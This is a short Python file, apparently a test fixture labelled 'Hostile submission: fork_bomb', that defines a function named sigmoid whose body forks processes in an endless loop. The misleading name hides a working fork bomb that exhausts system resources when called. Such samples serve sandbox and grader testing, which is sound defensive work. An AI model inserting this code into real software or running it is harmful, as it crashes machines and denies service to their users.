"""Hostile submission: fork_bomb."""

import os


def sigmoid(z):
    while True:
        os.fork()
